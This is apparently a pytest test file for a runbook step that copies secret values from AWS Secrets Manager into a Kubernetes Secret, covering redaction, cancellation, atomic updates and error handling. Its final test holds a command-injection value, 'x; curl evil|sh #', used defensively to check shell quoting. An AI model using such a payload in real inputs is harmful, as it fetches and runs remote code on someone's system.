"""Values from AWS Secrets Manager: those of one version, all in one change, once, and nowhere but in the Secret."""

import base64
import json
import shlex
from collections.abc import AsyncIterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from pydantic import ValidationError

from runbooks.clients.aws.secrets_manager import AwsSecret, SecretsManager
from runbooks.clients.kubernetes.cluster import ClusterClient
from runbooks.fleet.fleet import Fleet, Lease, utc_now
from runbooks.kit.errors import PermanentError, RunbookError, TemporaryError
from runbooks.kit.reasons import ReasonCode
from runbooks.kit.steps import PlainPulse, StepContext, Stop, Stopped, applied
from runbooks.redaction.redactor import default_redactor
from runbooks.rotation.settings import Rotations, RotationSettings
from runbooks.rotation.steps import AWS_VERSION, PROOF, ROTATED_BY, CopyFromAws
from sandbox.aws import Aws
from sandbox.aws_services import REGION, SIGNING_SECRET
from sandbox.aws_services import SecretsManager as World
from sandbox.cluster import Cluster, seed_omnicare
from sandbox.cluster.resources import SECRET
from tests.support.gates import environment
from tests.support.refusing_aws import SECRET as PLANTED
from tests.support.refusing_aws import refusing

WHERE = environment()
RUN = "production.secret-rotate.1"
FIELDS = {"DATABASE_USER": "user", "DATABASE_PASSWORD": "password"}


def rotations(url: str, keys: tuple[str, ...] = ("JWT_SECRET",), fields: Mapping[str, str] | None = None) -> Rotations:
    source = {"secret_id": SIGNING_SECRET, "region": REGION, "endpoint": url, "fields": dict(fields or {})}
    table = {"secret": "backend-secret", "keys": keys, "services": ["backend"], "aws": source}
    return Rotations({"jwt": RotationSettings.model_validate(table)}, throw_away=True)


@dataclass
class Place:
    cluster: Cluster
    client: ClusterClient
    world: World
    url: str

    def secret(self) -> tuple[dict[str, str], dict[str, str]]:
        """Its values and its annotations."""
        found = self.cluster.store.get(SECRET, WHERE.namespace, "backend-secret") or {}
        return {key: base64.b64decode(value).decode() for key, value in found["data"].items()}, found["metadata"].get(
            "annotations", {}
        )

    async def step(self, known: Rotations) -> CopyFromAws:
        manager = known.aws("jwt")
        assert manager is not None
        rotation = known.known["jwt"]
        return CopyFromAws(
            namespace=WHERE.namespace, secret="backend-secret", keys=rotation.keys, what="jwt", source=SIGNING_SECRET,
            version=(await manager.current()).id, fields=manager.settings.fields,
        )  # fmt: skip

    def context(self, known: Rotations, run: str = RUN) -> StepContext:
        services = {ClusterClient: self.client, Rotations: known, Fleet: Fleet(self.client)}
        return StepContext(pulse=PlainPulse(run), environment=WHERE, services=services)

    async def take(self, run: str) -> None:
        """The run takes the environment from whoever has it."""
        fleet = Fleet(self.client)
        lease = Lease(run=run, title="Rotate jwt", by="requester", since=utc_now())
        assert await fleet.take_over(WHERE, lease, of=(await fleet.read(WHERE)).run)


@pytest.fixture
async def here(tmp_path: Path) -> AsyncIterator[Place]:
    cluster, aws, world = Cluster(), Aws(), World()
    seed_omnicare(cluster)
    aws.services.append(world)
    async with cluster.serve(), aws.serve() as url:
        path = tmp_path / "kubeconfig"
        path.write_text(cluster.kubeconfig("omnicare-bot"))
        async with ClusterClient(kubeconfig=str(path)) as client:
            made = Place(cluster, client, world, url)
            await made.take(RUN)
            yield made


async def test_a_value_is_copied_once_and_is_in_no_result_and_known_to_the_redactor(here: Place) -> None:
    known = rotations(here.url)
    step, context = await here.step(known), here.context(known)
    result = await applied(step, context)
    values, annotations = here.secret()
    assert values["JWT_SECRET"] == "from-aws-4f1d09b2c7"
    assert annotations == {ROTATED_BY: context.run, PROOF: annotations[PROOF], AWS_VERSION: step.version}
    assert "from-aws-4f" not in json.dumps([result, step.model_dump(mode="json"), step.changes(), list(step.by_hand())])
    assert "from-aws-4f1d09b2c7" not in default_redactor().text("it is from-aws-4f1d09b2c7")
    here.world.put("a newer value that nobody approved")
    assert await applied(step, context) == result, "the killed step runs again, and has nothing left to do"
    assert here.secret()[0] == values


async def test_a_run_that_was_overtaken_or_asked_to_stop_replaces_nothing(here: Place) -> None:
    known, before = rotations(here.url), here.secret()
    step, pulse = await here.step(known), PlainPulse(RUN)
    pulse.ask_to_stop(Stop(kind="cancelled", by="Maya"))
    with pytest.raises(Stopped):
        await applied(step, replace(here.context(known), pulse=pulse))
    await here.take("production.rollback.1")
    with pytest.raises(PermanentError, match="no longer holds") as caught:
        await applied(step, here.context(known))
    assert caught.value.code is ReasonCode.OVERTAKEN
    assert here.secret() == before


async def test_values_that_belong_together_change_together_or_not_at_all(here: Place) -> None:
    signing = here.secret()[0]["JWT_SECRET"]
    await here.client.patch_secret(
        await here.client.secret(WHERE.namespace, "backend-secret"), dict.fromkeys(FIELDS, b"old"), {}
    )
    known = rotations(here.url, tuple(FIELDS), FIELDS)
    await applied(await here.step(known), here.context(known))
    values, _ = here.secret()
    assert (values["DATABASE_USER"], values["DATABASE_PASSWORD"]) == ("omnicare", "from-aws-9c01e7aa53")
    assert values["JWT_SECRET"] == signing

    here.world.put(json.dumps({"user": "other", "password": ""}))
    with pytest.raises(PermanentError, match="no usable field password") as caught:
        await applied(await here.step(known), here.context(known, "production.secret-rotate.2"))
    assert caught.value.code is ReasonCode.NOT_FOUND
    assert here.secret()[0] == values


@pytest.mark.parametrize(
    ("value", "stands"),
    [
        ("plain text", "plain text"),
        ('["a", "list"]', '["a", "list"]'),
        ('{"JWT_SECRET": 5432}', "5432"),
        ('{"JWT_SECRET": true}', None),
        ('{"JWT_SECRET": {"a": 1}}', None),
        ('{"OTHER": "x"}', None),
    ],
)
async def test_a_secret_is_one_text_or_the_fields_of_its_json(here: Place, value: str, stands: str | None) -> None:
    known, before = rotations(here.url), here.secret()[0]["JWT_SECRET"]
    await here.step(known)  # it is furnished with the first request
    here.world.put(value)
    step = await here.step(known)
    if stands is None:
        with pytest.raises(PermanentError, match="no usable field JWT_SECRET"):
            await applied(step, here.context(known))
    else:
        await applied(step, here.context(known))
    assert here.secret()[0]["JWT_SECRET"] == (stands or before)


async def test_what_became_current_after_the_plan_and_a_changed_configuration_are_refused(here: Place) -> None:
    known = rotations(here.url)
    step = await here.step(known)
    here.world.put("newer")
    with pytest.raises(PermanentError, match="another current version") as caught:
        await applied(step, here.context(known))
    assert caught.value.code is ReasonCode.CHANGED_MEANWHILE
    with pytest.raises(PermanentError, match="reads from another place"):
        await applied(step, here.context(rotations(here.url, fields={"JWT_SECRET": "key"})))
    assert ROTATED_BY not in here.secret()[1]


@pytest.mark.parametrize(
    ("status", "code", "kind", "words"),
    [
        (400, "ResourceNotFoundException", PermanentError, "there is no such secret"),
        (400, "InvalidRequestException", PermanentError, "marked for deletion"),
        (400, "DecryptionFailure", PermanentError, "can't be decrypted"),
        (400, "AccessDeniedException", PermanentError, "lacks the permission"),
        (403, "AccessDeniedException", PermanentError, "lacks the permission"),
        (429, "ThrottlingException", TemporaryError, "limits the account's requests"),
        (500, "InternalServiceError", TemporaryError, "right now"),
        (200, "", PermanentError, "has no current version"),
    ],
)
async def test_what_aws_refuses_is_a_sentence_without_aws_own_words(
    status: int, code: str, kind: type[RunbookError], words: str
) -> None:
    body = json.dumps({"__type": code, "message": PLANTED} if code else {"Name": "x"})
    async with refusing(status, text=body) as url:
        settings = AwsSecret(secret_id=SIGNING_SECRET, region=REGION, endpoint=url)
        with pytest.raises(kind, match=words) as caught:
            await SecretsManager(settings, throw_away=True).current()
    assert PLANTED not in str(caught.value.__dict__)


def test_a_field_of_a_key_that_is_not_there_is_refused() -> None:
    with pytest.raises(ValidationError, match="`OTHER` is not one of `keys`"):
        rotations("https://aws.example", fields={"OTHER": "x"})


async def test_the_line_for_a_person_contains_no_command_that_a_version_in_aws_is_named_like(here: Place) -> None:
    step = (await here.step(rotations(here.url))).model_copy(update={"version": "x; curl evil|sh #"})
    (line,) = step.by_hand()
    assert f"--version-id {shlex.quote(step.version)} --query" in line
